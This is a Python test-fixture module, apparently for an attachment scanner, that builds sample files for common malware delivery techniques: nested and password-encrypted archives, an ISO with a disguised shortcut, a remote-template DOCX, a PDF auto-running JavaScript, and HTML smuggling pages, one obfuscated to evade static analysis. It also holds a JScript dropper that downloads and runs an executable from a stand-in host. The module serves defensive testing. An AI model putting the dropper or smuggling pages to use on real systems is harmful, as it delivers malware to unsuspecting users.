"""Harmless samples built by the tests: each one a real instance of a technique."""

from __future__ import annotations

import base64
import io
import zipfile

import pycdlib
import pyzipper

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
# A shortcut file header ([MS-SHLLINK] 2.1): size 0x4C and the LinkCLSID.
LNK = (b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
       + b"\x00" * 56 + b"C:\\Windows\\System32\\cmd.exe /c echo test fixture\x00")
JS_DROPPER = (b'var x = new ActiveXObject("MSXML2.XMLHTTP");\r\n'
              b'x.open("GET", "http://payload.example.net/stage2.exe", false); x.send();\r\n'
              b'var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1;\r\n'
              b's.Write(x.responseBody); s.SaveToFile("C:\\\\Users\\\\Public\\\\stage2.exe", 2);\r\n'
              b'new ActiveXObject("WScript.Shell").Run("C:\\\\Users\\\\Public\\\\stage2.exe");\r\n')
HARMLESS_JS = b'var total = 0; for (var i = 0; i < 10; i++) { total += i; }\r\n'


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def nested_zip_with_eicar() -> bytes:
    inner = zip_of({"docs/readme.com": EICAR})
    middle = zip_of({"inner.zip": inner})
    return zip_of({"middle.zip": middle, "note.txt": b"hello"})


def encrypted_zip(members: dict[str, bytes], password: str) -> bytes:
    out = io.BytesIO()
    with pyzipper.AESZipFile(out, "w", compression=pyzipper.ZIP_DEFLATED,
                             encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(password.encode())
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def iso_of(members: dict[str, bytes]) -> bytes:
    iso = pycdlib.PyCdlib()
    iso.new(interchange_level=3, joliet=3)
    for name, data in members.items():
        iso_name = "/" + name.upper().replace("-", "_")[:30] + ";1"
        iso.add_fp(io.BytesIO(data), len(data), iso_name, joliet_path="/" + name)
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


def zip_in_iso_with_lnk() -> bytes:
    return iso_of({"invoice.zip": zip_of({"Invoice.pdf.lnk": LNK})})


def docx_with_external_template(url: str = "https://templates.example.net/t.dotm") -> bytes:
    return zip_of({
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.'
                               b'openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                       b'openxmlformats.org/package/2006/relationships"/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.'
                             b'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
                             b'<w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>',
        "word/_rels/settings.xml.rels": (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="'
            + url.encode() + b'" TargetMode="External"/></Relationships>'),
    })


def pdf_openaction_js() -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
               b"<< /Type /Action /S /JavaScript /JS (app.alert\\('test fixture'\\);) >>"]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


def smuggling_page(payload: bytes, name: str = "invoice.zip") -> bytes:
    """smuggling_page - the textbook form: atob, Blob, createObjectURL, download."""
    encoded = base64.b64encode(payload).decode()
    return (f"<html><body><p>Loading your document...</p><script>\n"
            f"var d = '{encoded}';\nvar b = atob(d); var u = new Uint8Array(b.length);\n"
            f"for (var i = 0; i < b.length; i++) {{ u[i] = b.charCodeAt(i); }}\n"
            f"var blob = new Blob([u], {{type: 'application/octet-stream'}});\n"
            f"var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
            f"a.download = '{name}'; document.body.appendChild(a); a.click();\n"
            f"</script></body></html>").encode()


def disguised_smuggling_page() -> bytes:
    """disguised_smuggling_page - builds a download with every name assembled at run time.

    Static analysis sees only string arithmetic; a browser sees the download.
    """
    return (b"<html><body><p>Please wait</p><script>\n"
            b"var w = window, k = ['Bl', 'ob'].join(''), c = 'create' + 'Obje' + 'ctURL';\n"
            b"var parts = [80, 75, 5, 6].concat(new Array(18).fill(0));\n"
            b"var f = new w[k]([new w['Uint8' + 'Array'](parts)]);\n"
            b"var a = document['create' + 'Element']('a'); a.href = w['UR' + 'L'][c](f);\n"
            b"a['down' + 'load'] = 'scan' + '.zip'; document.body.appendChild(a); a.click();\n"
            b"</script></body></html>")


CLEAN_PAGE = (b"<html><head><title>Menu</title></head><body><h1>Lunch menu</h1>"
              b"<p>Soup of the day.</p><script>document.title = 'Menu of the day';</script>"
              b"</body></html>")


def message(attachments: list[tuple[str, str, bytes]], body: str = "Please see attached.",
            subject: str = "documents") -> bytes:
    """message - a multipart message with these (name, content type, bytes) attachments."""
    parts = [b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
             + body.encode() + b"\r\n"]
    for name, content_type, data in attachments:
        encoded = base64.encodebytes(data).replace(b"\n", b"\r\n")
        parts.append(b"--b\r\nContent-Type: " + content_type.encode() + b"\r\n"
                     b"Content-Disposition: attachment; filename=\"" + name.encode() + b"\"\r\n"
                     b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded)
    return (b"From: Dana Reyes <dana@example.org>\r\nTo: user@example.com\r\n"
            b"Subject: " + subject.encode() + b"\r\nMessage-ID: <att.test@example.org>\r\n"
            b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
            + b"".join(parts) + b"--b--\r\n")
